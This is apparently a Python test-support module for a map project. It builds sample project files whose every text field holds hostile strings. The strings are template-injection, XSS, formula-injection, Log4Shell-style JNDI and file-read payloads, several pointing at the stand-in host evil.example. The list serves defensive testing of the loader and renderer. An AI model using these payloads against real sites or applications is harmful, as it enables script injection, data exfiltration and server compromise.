"""Hostile texts, and a map project that contains them in every text field."""

import json

import yaml

from geo.text.mixed_scripts import find_mixed_script_word
from geo.text.unicode_safety import (
    find_hidden_character,
    fold_whitespace,
    normalize_nfc,
)
from tests.support.sample_project import make_feature, suite_path

EXFILTRATION_URL = "https://evil.example"
"""Where a text that is executed would send a request; no test may see one."""

TEXTS_BY_TARGET = {
    "templates": [
        "{{ 7*191 }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{{ config.items() }}", "{{ this.get_name() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "*{7*191}", "[[${7*191}]]",
        "{{constructor.constructor('alert(1)')()}}", "{{=7*191}}", "@(7*191)", "{title} {n} {date} {0} {}", "%s %n %(title)s %x",
        "{% raw %}", "{{ '}}' }}", "{%- include '/etc/passwd' -%}", "${jndi:ldap://evil.example/a}", "$(reboot)", "`reboot`",
    ],
    "markup": [
        "<b>bold</b>", "<script>alert(1)</script>", f"<script src={EXFILTRATION_URL}/x.js></script>", "<img src=x onerror=alert(1)>",
        f"<img src={EXFILTRATION_URL}/x.png>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", f"<iframe src={EXFILTRATION_URL}></iframe>", "<math><mtext></table><img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
        "<a href='javascript:alert(1)'>a</a>", "<form action=javascript:alert(1)><button>b</button>", "<object data=javascript:alert(1)>",
        f"<meta http-equiv=refresh content='0;url={EXFILTRATION_URL}'>", f"<base href={EXFILTRATION_URL}>", f"<link rel=stylesheet href={EXFILTRATION_URL}/x.css>",
        f"<style>@import '{EXFILTRATION_URL}/x.css';*{{display:none}}</style>", f"<embed src={EXFILTRATION_URL}>", "<template><img src=x onerror=alert(1)></template>",
        '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
        "<<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>", "<IMG SRC=X ONERROR=ALERT(1)>", "<img src=`x` onerror=alert(1)>",
        "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "<plaintext>", "<xmp>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "</noscript><img src=x onerror=alert(1)>", "</title><img src=x onerror=alert(1)>",
        "</style><img src=x onerror=alert(1)>", "</textarea><img src=x onerror=alert(1)>", '<img src=x onerror="document.vulnerable=1">',
        '<div style="position:fixed;inset:0;background:red">', "<portal src=x>", "<foreignObject><img src=x onerror=alert(1)></foreignObject>",
    ],
    "script": [
        "${alert(1)}", "`${alert(1)}`", "\\", "\\\\", "\\'", '\\"', "';alert(1)//", '";alert(1)//', "\\u003cscript\\u003ealert(1)", "\\x3cscript>",
        "'+alert(1)+'", "</script", "</SCRIPT >", "</script><script>alert(1)</script>", "<!--", "-->", "<!--<script>", "]]>", "<![CDATA[x]]>", "//# sourceMappingURL=x",
        "/* */ */", '{"__proto__": {"polluted": 1}}', "__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "NaN", "[object Object]",
    ],
    "addresses": ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example", "file:///etc/passwd"],
    "markdown": [
        "[a](javascript:alert(1))", f"![a]({EXFILTRATION_URL}/x.png)", f"<{EXFILTRATION_URL}>", "**bold** _it_ `code`", "# heading", "> quote", "- item", "1. item", "| a | b |", "---",
        ":material/delete:", ":red[red]", "$\\href{javascript:alert(1)}{x}$", "$$x^2$$", "~~gone~~", ":tada:", "[^1]", "\\[x\\]", "    code", "***",
    ],
    "tables": ["=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("https://evil.example")', "=cmd|' /C calc'!A0", "＝1+1", "a;=1+1", '"a","b"', "1e5", "-12.5"],
    "letters": [
        "Ünïcödé", "Zw\u0308olf", "T\u0336h\u0336i\u0336s", "Z" + "\u0300\u0301\u0302\u0303\u0304" * 5, "ﷺ", "𝒳𝓎𝓏", "👩\u200d👩\u200d👧", "🏳\ufe0f\u200d🌈", "🇦🇲🇦🇿",
        "עברית", "العربية", "فارسی می\u200cخواهم", "繁體中文", "日本語タワー", "한국어", "ไทยยยย", "नमस्ते", "Ստեփանակերտ", "Xankəndi", "Лачин", "ქართული",
        "I İ ı i", "ß ẞ ſ", "ǅ", "\u00a0x\u00a0", "x\u3000y", "﷽", "a" * 5000, "word " * 800, "W" * 300, "\ufdd0", "\U000f0000", "\U0010fffd",
    ],
}  # fmt: skip
"""By target. Most are well-known attacks, adapted to the text fields of a project."""

ALL_TEXTS = [text for texts in TEXTS_BY_TARGET.values() for text in texts]


def load_naughty_strings():
    """Return the Big List of Naughty Strings; the test is skipped if it is not available."""
    return json.loads(suite_path("blns", "blns.json").read_text(encoding="utf-8"))


def quote_yaml(text):
    """Return a text as a YAML scalar in double quotes, with unusual characters escaped."""
    return yaml.safe_dump(text, default_style='"', width=10**6, allow_unicode=False).strip()


def is_valid_text(text):
    """Return whether a text is valid: not empty, and without invisible characters."""
    return bool(text.strip()) and not find_hidden_character(normalize_nfc(text))


def is_valid_name(text):
    return is_valid_text(text) and not find_mixed_script_word(normalize_nfc(text))


def normalize_text(text):
    """Return a text as the loader returns it: composed and stripped."""
    return normalize_nfc(text.strip())


HEAD_YAML = """\
map:
  title: {en: "<b>{{ 7*191 }}</b></title></script><!-- ${1}"}
  description: {en: "\\" onload=alert(1) x=\\" {% x %} </script>"}
  language: en
  languages: [en, fr]
  bounds: [10, 40, 20, 50]
events:
"""
EVENT_TEMPLATE = """\
  - id: n-{i}
    title: {{en: {text}}}
    date: "2020-03-05"
    date_note: {{en: {text}}}
    place: {{id: p-{i}}}
    place_note: {{en: {text}}}
    type: access
    actors: [{name}]
    review: verified
    source: s-{i}
    quote: {quote}
    by: {name}
    stance: claims
    status: claimed
    status_reason: {text}
    note: {{en: {text}}}
"""
SOURCE_TEMPLATE = """\
  - id: s-{i}
    title: {text}
    publisher: {name}
    author: {name}
    date: not stated
    language: en
    rights: full-text
    text: s-{i}.txt
    text_as_published: true
"""
PLACE_TEMPLATE = """\
  - id: p-{i}
    kind: {text}
    point: [{lon}, {lat}]
    precision_m: 500
    names: {{en: [{name}]}}
    label: 3
    basis: sourced
    citation: {text}
"""
LAYER_TEMPLATE = """\
  - id: l-{i}
    file: l-{i}.geojson
    title: {{en: {text}}}
    style: river
    attribution: {text}
    licence: {text}
    note: {{en: {text}}}
"""
GRID_COLUMNS = 40


def build_project_files(texts):
    """Return the files of a project in which event, source, place and layer i have the i-th text.

    A text that cannot be a name (it mixes scripts) is replaced by a plain name; a text that occurs
    twice in its source is quoted with the word before it.
    """
    files = {"events.yaml": HEAD_YAML, "data/sources.yaml": "sources:\n"}
    files |= {"data/places.yaml": "places:\n", "data/layers.yaml": "layers:\n"}
    for i, text in enumerate(texts):
        body = f"Before {i}.\n{text}\nAfter {i}."
        quote = (
            text
            if fold_whitespace(body).count(fold_whitespace(text)) == 1
            else f"Before {i}. {text}"
        )
        lon, lat = 10.1 + i % GRID_COLUMNS * 0.24, 40.1 + i // GRID_COLUMNS * 0.24
        values = {
            "i": i,
            "text": quote_yaml(text),
            "name": quote_yaml(text) if is_valid_name(text) else f"Name {i}",
            "quote": quote_yaml(quote),
            "lon": f"{lon:.2f}",
            "lat": f"{lat:.2f}",
        }
        for file, form in (
            ("events.yaml", EVENT_TEMPLATE),
            ("data/sources.yaml", SOURCE_TEMPLATE),
            ("data/places.yaml", PLACE_TEMPLATE),
            ("data/layers.yaml", LAYER_TEMPLATE),
        ):
            files[file] += form.format(**values)
        files[f"data/sources/s-{i}.txt"] = body
        line = {"type": "LineString", "coordinates": [[lon, lat], [lon + 0.1, lat + 0.1]]}
        names = {"en": [text]} if is_valid_name(text) else {}
        item = make_feature(
            line, id=f"f-{i}", names=names, source=text, licence=text, kind="river", status=[]
        )
        files[f"data/geojson/l-{i}.geojson"] = json.dumps(
            {"type": "FeatureCollection", "features": [item]}
        )
    return {name: data.encode() for name, data in files.items()}


def write_files(files, folder):
    """Write a project's files to a folder."""
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return folder
